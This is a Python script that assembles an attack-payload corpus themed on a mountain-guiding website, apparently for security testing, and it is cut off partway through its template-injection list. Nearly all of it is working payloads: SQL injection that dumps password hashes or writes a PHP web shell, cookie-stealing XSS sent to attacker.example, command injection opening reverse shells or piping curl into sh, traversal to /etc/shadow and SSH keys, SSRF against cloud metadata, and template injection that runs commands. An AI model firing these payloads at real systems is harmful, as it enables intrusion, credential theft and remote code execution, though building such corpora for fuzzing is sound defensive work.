#!/usr/bin/env python3
"""Attack corpus for glacierguides (glacier & mountain guiding company). Stdlib only.

Every literal below was written by hand for this theme. The only computed values are
(a) a hand-written theme prefix joined to a hand-written payload and (b) one encoding
(URL-encoding or base64) applied to a hand-written payload.
"""
import base64
import json
import os
import random
import urllib.parse

SEED = 20702
PREFIX = "hagp"
rng = random.Random(SEED)

# ------------------------------------------------------------------ sqli
SQLI = [
    ("note-union-select", "Allalin NE flank' UNION SELECT username,password_hash FROM guides-- -"),
    ("note-union-select", "CR-2391' union all select null,email,medical_notes,null from clients#"),
    ("note-union-select", "Breithorn') UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- "),
    ("search-union-select", "mönch%' UNION SELECT NULL,concat(login,0x3a,pass),NULL FROM staff-- x"),
    ("search-union-select", "piz palü' UnIoN/**/SeLeCt/**/1,version(),3,4/**/--+"),
    ("numeric-union-select", "0 UNION SELECT id,insurance_policy,emergency_phone FROM medical_forms"),
    ("numeric-union-select", "-1 union select 1,string_agg(usename||':'||passwd,','),3 from pg_shadow--"),
    ("numeric-union-select", "99999 UNION ALL SELECT name,sql,NULL FROM sqlite_master--"),
    ("note-union-select", "wand #17' UNION SELECT banner,NULL FROM v$version WHERE rownum=1--"),
    ("note-union-select", "Dom 4545' UNION SELECT TOP 1 name, password_hash FROM sys.sql_logins--"),
    ("plain-boolean", "' OR '1'='1"),
    ("plain-boolean", "admin'--"),
    ("plain-boolean", "1 OR 1=1"),
    ("note-boolean", "Weissmies SSE' OR 'x'='x' -- guide notes"),
    ("note-boolean", "Luca' AND 1=1 AND 'glacier'='glacier"),
    ("numeric-boolean", "2417 AND (SELECT SUBSTRING(password_hash,1,1) FROM guides WHERE id=1)='$'"),
    ("numeric-boolean", "2417 AND ASCII(SUBSTR((SELECT api_key FROM settings LIMIT 1),1,1))>77"),
    ("note-boolean", "Saas-Fee\" OR \"\"=\""),
    ("note-boolean", "hut Monte Rosa' || '1'='1"),
    ("note-boolean", "route-42') OR ('a'='a"),
    ("numeric-boolean", "14 or true"),
    ("numeric-boolean", "3 AND 8347=8347"),
    ("note-time-mysql", "Bergschrund open' AND SLEEP(8)-- -"),
    ("note-time-mysql", "alphubel' AND (SELECT 4412 FROM (SELECT(SLEEP(6)))abcd)-- "),
    ("numeric-time-mysql", "12 AND IF(SUBSTRING(user(),1,4)='root',SLEEP(5),0)"),
    ("note-time-mysql", "ice school' OR BENCHMARK(50000000,MD5('crampon'))#"),
    ("note-time-postgres", "Piz Bernina'; SELECT pg_sleep(7)--"),
    ("numeric-time-postgres", "21 AND 1=(SELECT 1 FROM pg_sleep(6))"),
    ("note-time-postgres", "CR-2288' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)::text || '"),
    ("note-time-mssql", "Gran Paradiso'; WAITFOR DELAY '0:0:7'--"),
    ("numeric-time-mssql", "8; IF (SELECT COUNT(*) FROM guides)>0 WAITFOR DELAY '00:00:06'--"),
    ("note-time-oracle", "Ortler' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--"),
    ("note-time-sqlite", "Dôme du Goûter' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("note-error-mysql", "route' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password_hash FROM guides LIMIT 1)))-- "),
    ("note-error-mysql", "crevasse' AND updatexml(null,concat(0x3a,(select @@version)),null)-- -"),
    ("note-error-mssql", "Mönchsjoch' AND 1=CONVERT(int,(SELECT TOP 1 email FROM clients))--"),
    ("note-error-postgres", "AV-2024-031' AND 1=CAST((SELECT current_user) AS int)--"),
    ("note-error-oracle", "Lyngen' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("numeric-error-mysql", "5 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
    ("note-stacked", "Kahiltna camp 3'; DROP TABLE crevasse_reports;--"),
    ("note-stacked", "wind slab'; UPDATE guides SET role='admin' WHERE email='luca@example-guides.ch';--"),
    ("note-stacked", "ladder'; INSERT INTO staff(login,pass) VALUES('svc','x');--"),
    ("note-stacked-mssql", "Hörnli'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt';--"),
    ("note-stacked-postgres", "icefall'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("note-oob-mssql", "serac'; EXEC master..xp_dirtree '\\\\203.0.113.9\\share\\a';--"),
    ("note-oob-mysql", "glacier' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password_hash FROM guides LIMIT 1),'.attacker.example\\\\x'))-- "),
    ("note-oob-oracle", "Matterhorn' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("note-file-mysql", "hut' UNION SELECT '<?php system($_GET[0]);?>' INTO OUTFILE '/var/www/html/g.php'-- "),
    ("note-file-mysql", "x' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("search-order-by", "date ORDER BY 7-- -"),
    ("sort-param", "departure_date,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("sort-param", "(CASE WHEN (SELECT substr(role,1,1) FROM guides LIMIT 1)='a' THEN price ELSE altitude END)"),
    ("sort-param", "name; SELECT pg_sleep(5)"),
    ("note-comment-space", "Breithorn'/**/OR/**/1/**/=/**/1/**/--"),
    ("note-versioned-comment", "Allalin' /*!50000UNION*/ /*!50000SELECT*/ 1,2,user()-- -"),
    ("note-no-space", "tacul'||(SELECT(password_hash)FROM(guides)LIMIT(1))||'"),
    ("note-case-mix", "Grossvenediger' uNiOn aLl sElEcT 1,@@hostname,3-- -"),
    ("note-hash-comment", "crampons 12pt' OR 2>1#"),
    ("note-newline-comment", "Pers -> Morteratsch'\nOR 1=1\n-- "),
    ("note-mssql-char", "wand'; EXEC('SEL'+'ECT * FROM guides');--"),
    ("note-hex-literal", "Dom' UNION SELECT 1,0x2f6574632f706173737764,3-- -"),
    ("note-postgres-dollar", "col du Lys'; SELECT $$x$$||current_setting($$data_directory$$);--"),
    ("note-oracle-concat", "Aneto' AND (SELECT CHR(65)||CHR(66) FROM dual)='AB' AND 'x'='x"),
    ("note-like-wildcard", "guide' OR email LIKE '%@example-guides.ch' -- "),
    ("json-field-sqli", "{\"route\":\"Breithorn' OR 1=1-- -\"}"),
    ("note-having", "bulletin' HAVING 1=1--"),
    ("note-group-by", "route' GROUP BY id HAVING 1=1--"),
    ("note-fullwidth-quote", "Mönch＇ OR 1=1-- -"),
    ("note-unicode-escape", "Allalin\\u0027 OR \\u00271\\u0027=\\u00271"),
    ("note-double-urlencode", "Breithorn%2527%2520OR%25201%253D1--%2520-"),
    ("note-urlencode-u", "Weissmies%u0027%u0020UNION%u0020SELECT%u0020password_hash%u0020FROM%u0020guides--"),
]
SQLI_PREFIXES = ["Route conditions: ", "Crevasse report CR-2460 - ", "Medical notes: ", "Gear list note: ",
                 "Bulletin comment: "]
SQLI_TAILS = [("note-union-select", "x' UNION SELECT email,phone FROM clients-- -"),
              ("note-boolean", "ok' OR 'a'='a"),
              ("note-time-mysql", "x' AND SLEEP(5)#"),
              ("note-time-mssql", "x'; WAITFOR DELAY '0:0:5'--")]
SQLI_ENC = [1, 4, 10, 22, 29]  # indices of literals to url-encode

# ------------------------------------------------------------------ xss
XSS = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("note-script", "Crevasse at 3,180 m<script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("note-script", "Great guide!! <script src=//attacker.example/x.js></script>"),
    ("note-img-onerror", "Photo: <img src=IMG_4471.jpg onerror=\"new Image().src='https://attacker.example/?c='+document.cookie\">"),
    ("note-svg-onload", "Summit view <svg/onload=location='//attacker.example/'+document.cookie>"),
    ("attr-breakout", "Luca\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("attr-breakout", "Anna' onfocus='alert(1)' autofocus='"),
    ("attr-breakout", "O'Neill\"><img src=x onerror=alert(origin)>"),
    ("attr-breakout", "Breithorn\" autofocus onfocus=alert(1) a=\""),
    ("js-string-breakout", "Allalin';alert(document.cookie);//"),
    ("js-string-breakout", "Weissmies\";fetch('https://attacker.example/k?'+localStorage.token);//"),
    ("js-template-breakout", "Dom`;alert(1);`"),
    ("js-script-close", "route</script><script>alert(1)</script>"),
    ("note-iframe-srcdoc", "map: <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("note-iframe-js", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("note-details-ontoggle", "Gear tips <details open ontoggle=alert(1)>click</details>"),
    ("note-body-onload", "<body onload=alert('xss')>"),
    ("note-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("note-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("note-video-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("note-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("note-marquee", "<marquee onstart=alert(1)>Danger 3</marquee>"),
    ("note-object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("note-embed-src", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("note-a-javascript", "See bulletin <a href=\"javascript:alert(document.cookie)\">here</a>"),
    ("note-a-javascript-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">GPX</a>"),
    ("note-a-javascript-tab", "<a href=\"java&#x09;script:alert(1)\">route map</a>"),
    ("markdown-link-js", "Track here: [weissmies.gpx](javascript:alert(document.cookie))"),
    ("markdown-link-js", "[Bulletin AV-2024-031](javascript:fetch('//attacker.example/'+document.cookie))"),
    ("markdown-image-onerror", "![crevasse](x\" onerror=\"alert(1))"),
    ("url-field-javascript", "javascript:alert(document.domain)//https://www.example-guides.ch"),
    ("url-field-data", "data:text/html,<script>alert(1)</script>"),
    ("url-field-javascript", "JaVaScRiPt:alert(1)"),
    ("note-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("note-svg-set", "<svg><set attributeName=onmouseover to=alert(1)></set></svg>"),
    ("note-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>map</text></a></svg>"),
    ("note-math-xlink", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"),
    ("note-style-onload", "<style onload=alert(1)></style>"),
    ("note-link-import", "<link rel=import href=\"//attacker.example/x.html\">"),
    ("note-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("note-form-action", "<form action=javascript:alert(1)><button>Book now</button></form>"),
    ("note-button-formaction", "<button formaction=javascript:alert(1)>Send</button>"),
    ("note-case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("note-nested-tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("note-slash-separator", "<img/src/onerror=alert(1)>"),
    ("note-newline-in-tag", "<img\nsrc=x\nonerror=alert(1)>"),
    ("note-entity-encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("note-decimal-entities-js", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("note-js-unicode-escape", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("note-eval-fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("note-atob", "<svg onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("note-backtick-call", "<svg onload=alert`1`>"),
    ("note-constructor", "<img src=x onerror=[].constructor.constructor('alert(1)')()>"),
    ("note-top-bracket", "<svg onload=top['al'+'ert'](1)>"),
    ("note-template-angular", "Hi {{constructor.constructor('alert(1)')()}}"),
    ("note-template-vue", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("note-noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("note-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("note-title-breakout", "</title><svg onload=alert(1)>"),
    ("note-comment-breakout", "--><script>alert(1)</script><!--"),
    ("note-cdata", "<![CDATA[<]]>script>alert(1)<![CDATA[<]]>/script>"),
    ("note-base-href", "<base href=\"//attacker.example/\">"),
    ("note-object-svg", "<object data=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"></object>"),
    ("json-string-breakout", "Breithorn\\\"</script><script>alert(1)</script>"),
    ("note-fullwidth", "＜script＞alert(1)＜/script＞"),
    ("note-overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("note-pointer-event", "<div onpointerover=alert(1)>hover the crevasse map</div>"),
    ("note-keyboard-event", "<x contenteditable onkeydown=alert(1)>type here"),
]
XSS_PREFIXES = ["Route note: ", "Review: ", "Chat: ", "Guide bio: ", "Crevasse CR-2471: "]
XSS_TAILS = [("note-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
             ("note-svg-onload", "<svg onload=alert(1)>"),
             ("note-script", "<script>alert(origin)</script>")]
XSS_ENC = [0, 1, 2, 3, 7, 29, 32]

# ------------------------------------------------------------------ cmdi
CMDI = [
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("gpx-filename-semicolon", "allalin_2024.gpx; curl http://attacker.example/s.sh | sh"),
    ("gpx-filename-and", "weissmies.gpx && wget -qO- http://203.0.113.7/x | bash"),
    ("gpx-filename-or", "missing.gpx || nc 203.0.113.7 4444 -e /bin/sh"),
    ("gpx-filename-backtick", "track_`id`.gpx"),
    ("gpx-filename-subshell", "breithorn-$(curl -s attacker.example/k).gpx"),
    ("photo-name-pipe", "IMG_4471.jpg | nc attacker.example 9001 < /etc/shadow"),
    ("photo-name-newline", "IMG_4471.jpg\ncat /etc/passwd"),
    ("photo-name-newline-encoded", "IMG_4471.jpg%0aid"),
    ("hostname-ping", "hut-webcam.local; bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
    ("hostname-ping", "8.8.8.8 && cat /var/www/.env"),
    ("hostname-ping", "127.0.0.1|curl -d @/etc/passwd http://attacker.example/"),
    ("ifs-space", ";cat${IFS}/etc/passwd"),
    ("ifs-space", "route.gpx;curl${IFS}attacker.example/s|sh"),
    ("brace-expansion", ";{cat,/etc/passwd}"),
    ("quote-obfuscation", "; w'h'o'a'm'i"),
    ("backslash-obfuscation", "; c\\a\\t /e\\tc/pa\\ss\\wd"),
    ("variable-obfuscation", ";a=c;b=at;$a$b /etc/passwd"),
    ("glob-obfuscation", "; /???/c?t /???/p??s??"),
    ("base64-pipe", "; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("hex-printf", "; $(printf '\\x69\\x64')"),
    ("process-substitution", "; bash <(curl -s http://attacker.example/p)"),
    ("redirect-write", "notes.txt; echo '* * * * * root curl attacker.example|sh' > /etc/cron.d/x"),
    ("sleep-blind", "Allalin; sleep 10 #"),
    ("sleep-blind", "CR-2391`sleep 9`"),
    ("sleep-blind", "$(sleep 7)"),
    ("dns-exfil", "; nslookup $(whoami).attacker.example"),
    ("dns-exfil", "| dig +short `hostname`.attacker.example"),
    ("python-oneliner", "; python3 -c 'import os;os.system(\"id\")'"),
    ("perl-oneliner", "; perl -e 'system(\"cat /etc/passwd\")'"),
    ("awk-system", "; awk 'BEGIN{system(\"id\")}'"),
    ("env-dump", "export.csv; env | curl -X POST --data-binary @- http://attacker.example/e"),
    ("argument-injection-curl", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("argument-injection-curl", "--config http://attacker.example/curlrc"),
    ("argument-injection-wget", "--post-file=/etc/passwd http://attacker.example/"),
    ("argument-injection-wget", "-O /etc/cron.d/pwn http://attacker.example/cron"),
    ("argument-injection-tar", "--checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/x.sh"),
    ("argument-injection-tar", "photos.tar --use-compress-program='sh -c id'"),
    ("argument-injection-ssh", "-oProxyCommand=curl\\ attacker.example/s|sh hut-server"),
    ("argument-injection-git", "--upload-pack=touch /tmp/pwned"),
    ("argument-injection-find", "-exec sh -c 'curl attacker.example/x|sh' ;"),
    ("argument-injection-rsync", "-e 'sh -c id' backup@nas01:/guides"),
    ("argument-injection-zip", "bulletins.zip -TT 'sh -c id' -T"),
    ("argument-injection-sendmail", "ops@example-guides.ch -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("argument-injection-gpsbabel", "-i gpx -f /etc/passwd -o csv -F /var/www/html/leak.csv"),
    ("argument-injection-ffmpeg", "-i /etc/passwd -f data http://attacker.example/up"),
    ("imagemagick-pipe", "|curl http://attacker.example/m.sh|sh; .jpg"),
    ("imagemagick-mvg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|id\")'\npop graphic-context"),
    ("windows-ampersand", "allalin.gpx & type C:\\Windows\\win.ini"),
    ("windows-pipe", "report.pdf | dir C:\\inetpub\\"),
    ("windows-certutil", "& certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("windows-caret", "& w^h^o^a^m^i"),
    ("windows-env-substring", "& %COMSPEC:~-7,1%ho%COMSPEC:~-7,1%ami"),
    ("windows-powershell", "; powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("windows-powershell-enc", "& powershell -EncodedCommand dwBoAG8AYQBtAGkA"),
    ("windows-powershell", "| powershell Invoke-WebRequest -Uri http://attacker.example/x -OutFile $env:TEMP\\x.exe"),
    ("windows-mshta", "& mshta http://attacker.example/h.hta"),
    ("windows-rundll", "&& rundll32.exe \\\\203.0.113.9\\s\\x.dll,EntryPoint"),
    ("note-semicolon", "Crevasse report: width 1.5 m; rm -rf /var/lib/glacier/uploads"),
    ("note-backtick", "Summit at `curl attacker.example/$(id -u)` 08:45"),
    ("note-subshell", "Bulletin AV-2024-031 $(cat /etc/hostname > /dev/tcp/203.0.113.7/80)"),
]
CMDI_PREFIXES = ["track-", "Route export ", "webcam host ", "IMG_5120.jpg", "gear_list.pdf"]
CMDI_TAILS = [("gpx-filename-semicolon", "; id"), ("gpx-filename-pipe", " | id"),
              ("gpx-filename-subshell", "$(id)"), ("gpx-filename-and", " && uname -a")]
CMDI_ENC = [0, 3, 14]

# ------------------------------------------------------------------ traversal
TRAV = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\..\\Windows\\win.ini"),
    ("gpx-path-dotdot", "routes/2024/../../../../../etc/shadow"),
    ("photo-path-dotdot", "photos/breithorn/../../../../proc/self/environ"),
    ("photo-path-dotdot", "IMG_4471.jpg/../../../../../var/www/.env"),
    ("pdf-path-dotdot", "docs/legal/../../../config/database.yml"),
    ("pdf-path-dotdot", "packing_list.pdf/../../../../root/.ssh/id_rsa"),
    ("gpx-path-urlencode", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("gpx-path-urlencode-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("gpx-path-full-urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("gpx-path-double-urlencode", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("gpx-path-overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("gpx-path-overlong-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("gpx-path-overlong-3byte", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("gpx-path-u-encode", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("gpx-path-backslash-encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("gpx-path-nested", "....//....//....//etc/passwd"),
    ("gpx-path-nested-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("gpx-path-dot-slash-mix", "..;/..;/..;/etc/passwd"),
    ("gpx-path-nullbyte", "../../../../etc/passwd%00.gpx"),
    ("gpx-path-nullbyte", "../../../../etc/passwd\u0000.jpg"),
    ("gpx-path-absolute", "/etc/passwd"),
    ("gpx-path-absolute", "/proc/self/cmdline"),
    ("gpx-path-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("gpx-path-absolute-windows", "C:/inetpub/wwwroot/web.config"),
    ("unc-path", "\\\\203.0.113.9\\share\\allalin.gpx"),
    ("unc-path", "//198.51.100.23/c$/Windows/win.ini"),
    ("file-uri", "file:///etc/passwd"),
    ("php-wrapper-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-wrapper-filter", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("php-wrapper-zip", "zip://uploads/photo.jpg#shell.php"),
    ("php-wrapper-phar", "phar://uploads/IMG_4471.jpg/x.php"),
    ("java-war-path", "/WEB-INF/web.xml"),
    ("java-war-dotdot", "../../WEB-INF/classes/application.properties"),
    ("tomcat-semicolon", "/static/..;/manager/html"),
    ("nginx-alias-offbyslash", "/assets../.git/config"),
    ("spring-encoded-slash", "/files/..%252f..%252f..%252fetc%252fpasswd"),
    ("iis-shortname", "..\\..\\..\\inetpub\\wwwroot\\WEB~1.CON"),
    ("windows-ads", "..\\..\\web.config::$DATA"),
    ("dotdot-trailing-dots", "../../../../etc/passwd/././././."),
    ("note-path", "Route export path: exports/../../../../home/guide/.bash_history"),
    ("note-path", "attachment: uploads/cr-2391/../../../../var/log/nginx/access.log"),
    ("zip-slip-entry", "../../../../../../var/www/html/uploads/cmd.php"),
    ("zip-slip-entry-windows", "..\\..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\x.bat"),
]
TRAV_PREFIXES = ["routes/2024/", "photos/summit/", "bulletins/AV-2024-031/", "uploads/medical/"]
TRAV_TAILS = [("gpx-path-dotdot", "../../../../etc/passwd"), ("gpx-path-dotdot", "../../../../../proc/self/environ"),
              ("gpx-path-dotdot-windows", "..\\..\\..\\..\\boot.ini")]
TRAV_ENC = [0, 2, 3]

# ------------------------------------------------------------------ ssrf
SSRF = [
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("plain-localhost", "http://127.0.0.1:8080/admin"),
    ("gpx-import-url-metadata", "http://169.254.169.254/latest/user-data"),
    ("gpx-import-url-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("gpx-import-url-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("gpx-import-url-metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("gpx-import-url-metadata-ecs", "http://169.254.170.2/v2/credentials/"),
    ("gpx-import-url-metadata-openstack", "http://169.254.169.254/openstack/latest/meta_data.json"),
    ("webcam-url-decimal-ip", "http://2130706433/"),
    ("webcam-url-decimal-ip", "http://2852039166/latest/meta-data/"),
    ("webcam-url-hex-ip", "http://0x7f000001:6379/"),
    ("webcam-url-hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("webcam-url-octal-ip", "http://0177.0.0.1/server-status"),
    ("webcam-url-octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webcam-url-short-ip", "http://127.1/admin"),
    ("webcam-url-zero", "http://0.0.0.0:9200/_cat/indices"),
    ("webcam-url-zero", "http://0/"),
    ("webcam-url-ipv6-loopback", "http://[::1]:8500/v1/agent/self"),
    ("webcam-url-ipv6-mapped", "http://[::ffff:127.0.0.1]/admin"),
    ("webcam-url-ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webcam-url-ipv6-aws", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("webhook-url-userinfo", "https://www.example-guides.ch@169.254.169.254/latest/meta-data/"),
    ("webhook-url-userinfo", "http://hooks.example-guides.ch:443@127.0.0.1:2375/containers/json"),
    ("webhook-url-fragment-confusion", "http://127.0.0.1:6379#@hooks.example-guides.ch/"),
    ("webhook-url-backslash-confusion", "http://attacker.example\\@127.0.0.1/"),
    ("webhook-url-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-url-rebind", "http://rebind.attacker.example:8080/admin"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://10.0.0.25:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40example-guides.ch%3E%0D%0ARCPT%20TO%3A%3Cvictim%40attacker.example%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("gopher-http", "gopher://internal-api:80/_GET%20/admin/users%20HTTP/1.1%0D%0AHost:%20internal-api%0D%0A%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file:///proc/self/environ"),
    ("file-scheme-windows", "file:///C:/Windows/win.ini"),
    ("ftp-scheme", "ftp://10.0.0.5/backup/db.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=guides,dc=local??sub"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("internal-service", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal-service", "http://elasticsearch:9200/clients/_search?q=*"),
    ("internal-service", "http://localhost:15672/api/users"),
    ("internal-service", "http://10.0.0.12:8500/v1/kv/?recurse"),
    ("internal-service", "http://192.168.1.1/cgi-bin/luci"),
    ("internal-service", "http://172.17.0.1:2375/images/json"),
    ("note-url", "Webcam feed for the Britanniahütte: http://169.254.169.254/latest/meta-data/hostname"),
    ("note-url", "Bulletin RSS source -> http://127.0.0.1:9000/minio/admin/v3/info"),
]
SSRF_PREFIXES = ["http://", "https://"]
SSRF_TAILS = [("webcam-url-localhost-name", "localhost:8080/actuator/env"),
              ("webcam-url-metadata", "169.254.169.254/latest/meta-data/iam/info"),
              ("webcam-url-internal", "10.0.0.8:5984/_all_dbs")]
SSRF_ENC = [0, 8, 26]

# ------------------------------------------------------------------ code
CODE = [
    ("ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2", "Hi {{ config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read() }}, see you at the hut"),
    ("ssti-jinja2", "{{ lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read() }}"),
    ("ssti-jinja2-filter-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja2-statement", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "Crevasse note <%= system('cat /etc/passwd') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-django-debug", "{{ settings.SECRET_KEY }}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-pug", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-dot", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-thymeleaf", "[[${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}]]"),
    ("ssti-razor", "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }"),
    ("el-injection", "${Runtime.getRuntime().exec('id')}"),
